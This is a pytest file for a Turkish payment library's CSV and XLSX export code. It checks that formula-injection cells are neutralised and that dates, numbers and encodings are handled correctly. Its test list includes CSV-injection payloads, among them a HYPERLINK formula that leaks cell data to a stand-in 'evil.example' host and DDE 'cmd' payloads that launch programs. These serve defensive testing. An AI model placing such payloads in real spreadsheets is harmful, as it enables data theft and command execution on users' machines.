import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paynet_core.dates import ISTANBUL
from paynet_core.importing import read_invoice_rows, read_status_rows, template_csv
from paynet_core.reports.cells import (
    FORMULA_TRIGGERS,
    XLSX_MAX_CELL_CHARS,
    failed_rows_csv,
    neutralise_cell,
    records_to_csv_bytes,
    to_csv_bytes,
    to_xlsx_bytes,
    unneutralise_cell,
)

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+90 555 000 00 00",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "  =1+1",
    "＝1+1",
    "'=already quoted",
    "''-1",
]
SAFE = ["1.234,56", "İptal", "FTR-1", "a=b", "10-20", "'quoted", "''", "", " ", "😀"]


def read_csv(data: bytes, delimiter=";"):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def read_xlsx(data: bytes):
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return ws, [list(r) for r in ws.iter_rows(values_only=True)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_formula_text(text):
    assert neutralise_cell(text) == "'" + text
    assert unneutralise_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize(
    "value", [*SAFE, -5, -5.5, 0, Decimal("-1.00"), None, True, datetime(2026, 1, 1)]
)
def test_neutralise_leaves_safe_text_and_every_non_string_alone(value):
    assert neutralise_cell(value) is value
    if isinstance(value, str):
        assert unneutralise_cell(value) == value


@given(st.text(max_size=30) | st.from_regex(r"'*[ ]?[=+@-].*", fullmatch=True))
def test_neutralise_never_leaves_a_trigger_first_and_is_reversible(text):
    out = neutralise_cell(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert unneutralise_cell(out) == text


def frame_with_every_danger():
    return pd.DataFrame(
        {
            "invoice_no": DANGEROUS,
            "amount": [-(i + 1) * 100 for i in range(len(DANGEROUS))],  # real negative numbers
            "message": [f"-{i} provider said =no" for i in range(len(DANGEROUS))],
        }
    )


def test_csv_export_neutralises_every_dangerous_cell():
    rows = read_csv(to_csv_bytes(frame_with_every_danger()))
    assert rows[0] == ["invoice_no", "amount", "message"]
    for (invoice_no, amount, message), original in zip(rows[1:], DANGEROUS, strict=True):
        assert invoice_no == "'" + original
        assert message.startswith("'-")
        assert int(amount) < 0  # numbers are not touched: "-7" is a number, not a formula
    for row in rows[1:]:
        for cell in row[::2]:
            assert not cell.startswith(FORMULA_TRIGGERS)


def test_xlsx_export_neutralises_every_dangerous_cell():
    ws, rows = read_xlsx(to_xlsx_bytes(frame_with_every_danger()))
    assert rows[0] == ["invoice_no", "amount", "message"]
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[2].data_type == "s"  # never a formula ("f")
        assert row[0].value.startswith("'") and row[2].value.startswith("'-")
        assert isinstance(row[1].value, int) and row[1].value < 0
    assert rows[1][0] == "'=1+1"
    assert rows[12][0] == "'\ufffd=1"  # NUL cannot live in XML; it is replaced after neutralising


def test_headers_are_neutralised_too():
    frame = pd.DataFrame({"=evil": ["x"], "ok": [1]})
    assert read_csv(to_csv_bytes(frame))[0] == ["'=evil", "ok"]
    assert read_xlsx(to_xlsx_bytes(frame))[1][0] == ["'=evil", "ok"]


def test_xlsx_keeps_integer_kurus_as_integers_and_dates_as_dates():
    frame = pd.DataFrame(
        {
            "amount": pd.Series([123456, 99_999_999_999, 1], dtype="int64"),
            "maybe": pd.Series([5, None, 7], dtype="Int64"),
            "when": pd.to_datetime(["2026-11-23 14:30", "2026-11-24 00:00", None]).tz_localize(
                ISTANBUL
            ),
            "naive": [datetime(2026, 1, 1, 9), datetime(2026, 1, 2), None],
            "day": [date(2026, 11, 23), None, date(2026, 11, 25)],
            "tl": [Decimal("1234.56"), Decimal("5"), None],
            "ratio": [0.5, float("nan"), float("inf")],
            "ok": [True, False, None],
        }
    )
    ws, rows = read_xlsx(to_xlsx_bytes(frame))
    assert rows[1][:2] == [123456, 5] and type(rows[1][0]) is int and type(rows[2][0]) is int
    assert rows[2][1] is None and rows[3][1] == 7
    assert rows[1][2] == datetime(2026, 11, 23, 14, 30)  # Istanbul wall time, no tz in Excel
    assert rows[2][3] == datetime(2026, 1, 2) and rows[3][2] is None
    assert (
        ws["C2"].number_format == "dd.mm.yyyy hh:mm:ss" and ws["E2"].number_format == "dd.mm.yyyy"
    )
    assert rows[1][4] == datetime(2026, 11, 23)
    assert rows[1][5] == 1234.56 and rows[2][5] == 5 and type(rows[2][5]) is int
    assert rows[2][6] is None and rows[3][6] is None
    assert rows[1][7] is True and rows[3][7] is None


def test_xlsx_converts_other_time_zones_to_istanbul():
    frame = pd.DataFrame({"at": [datetime(2026, 1, 1, 9, tzinfo=UTC)]})
    assert read_xlsx(to_xlsx_bytes(frame))[1][1][0] == datetime(2026, 1, 1, 12)


def test_xlsx_survives_control_characters_and_huge_text():
    frame = pd.DataFrame({"text": ["a\x01b\x0bc", "x" * 40_000, "tab\tand\nnewline"]})
    rows = read_xlsx(to_xlsx_bytes(frame))[1]
    assert rows[1][0] == "a\ufffdb\ufffdc"
    assert len(rows[2][0]) == XLSX_MAX_CELL_CHARS and rows[2][0].endswith("…")
    assert rows[3][0] == "tab\tand\nnewline"


def test_csv_is_utf8_with_bom_and_semicolons_for_turkish_excel():
    frame = pd.DataFrame({"Müşteri": ["Işık Çağ", "a;b"], "Tutar": ["1.234,56", '12"3']})
    data = to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == 'Müşteri;Tutar\r\nIşık Çağ;1.234,56\r\n"a;b";"12""3"\r\n'
    assert read_csv(to_csv_bytes(frame, delimiter=","), ",")[2] == ["a;b", '12"3']


def test_csv_writes_dates_the_turkish_way_and_blanks_for_missing():
    frame = pd.DataFrame(
        {
            "at": pd.to_datetime(["2026-11-23 11:30"]).tz_localize("UTC"),
            "day": [date(2026, 11, 23)],
            "n": pd.Series([None], dtype="Int64"),
            "f": [float("nan")],
            "d": [Decimal("12.30")],
        }
    )
    assert read_csv(to_csv_bytes(frame))[1] == [
        "23.11.2026 14:30:00",
        "23.11.2026",
        "",
        "",
        "12.30",
    ]


def test_records_to_csv_uses_first_seen_columns():
    data = records_to_csv_bytes([{"a": 1}, {"b": "=x", "a": 2}])
    assert read_csv(data) == [["a", "b"], ["1", ""], ["2", "'=x"]]


def test_failed_rows_csv_puts_the_error_last():
    data = failed_rows_csv([{"error": "boom", "a": "1"}, {"a": "2", "b": "3", "error": "=bad"}])
    assert read_csv(data) == [["a", "b", "error"], ["1", "", "boom"], ["2", "3", "'=bad"]]


def test_failed_rows_round_trip_through_the_importer():
    original = read_invoice_rows(template_csv("invoices"), "t.csv")
    failed = [
        {
            **row.to_record(),
            "error": f"Paynet create_invoice, code 5: duplicatedata (row {row.row})",
        }
        for row in original.rows
    ]
    again = read_invoice_rows(failed_rows_csv(failed), "failed.csv")
    assert again.errors == [] and again.warnings == []
    assert again.rows == original.rows


def test_failed_rows_with_formula_looking_and_turkish_cells_round_trip_unchanged():
    rows = [
        {
            "Abonelik No": "ÇĞİ-100",
            "Fatura No": "F;1",
            "Tutar": "1.234,56",
            "Tarih": "23.11.2026",
            "hata": '=HYPERLINK("x")',
        },
        {
            "Abonelik No": "S-2",
            "Fatura No": 'F"2',
            "Tutar": "-5",
            "Tarih": "23.11.2026",
            "hata": "amount: negative",
        },
    ]
    result = read_invoice_rows(failed_rows_csv(rows, error_column="hata"), "failed.csv")
    assert [r.subscription_id for r in result.rows] == ["ÇĞİ-100"]
    assert result.rows[0].invoice_no == "F;1"
    error = result.errors[0]
    assert (error.row, error.field, error.value) == (
        3,
        "amount",
        "-5",
    )  # the cell came back as written


def test_failed_status_rows_round_trip():
    original = read_status_rows(template_csv("statuses"), "s.csv")
    failed = [{**r.to_record(), "error": "timeout"} for r in original.rows]
    assert read_status_rows(failed_rows_csv(failed), "failed.csv").rows == original.rows


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.dictionaries(st.sampled_from(["a", "b", "=c"]), st.text(max_size=20), max_size=3),
        max_size=5,
    )
)
def test_csv_export_of_any_text_reads_back_neutralised_and_reversible(records):
    data = records_to_csv_bytes(records, columns=["a", "b", "=c"])
    rows = read_csv(data)
    assert len(rows) == len(records) + 1 or any(
        "\r" in v or "\n" in v for r in records for v in r.values()
    )
    for record, row in zip(records, rows[1:], strict=False):
        for column, cell in zip(["a", "b", "=c"], row, strict=True):
            assert not cell.startswith(FORMULA_TRIGGERS)
            assert unneutralise_cell(cell) == record.get(column, "")
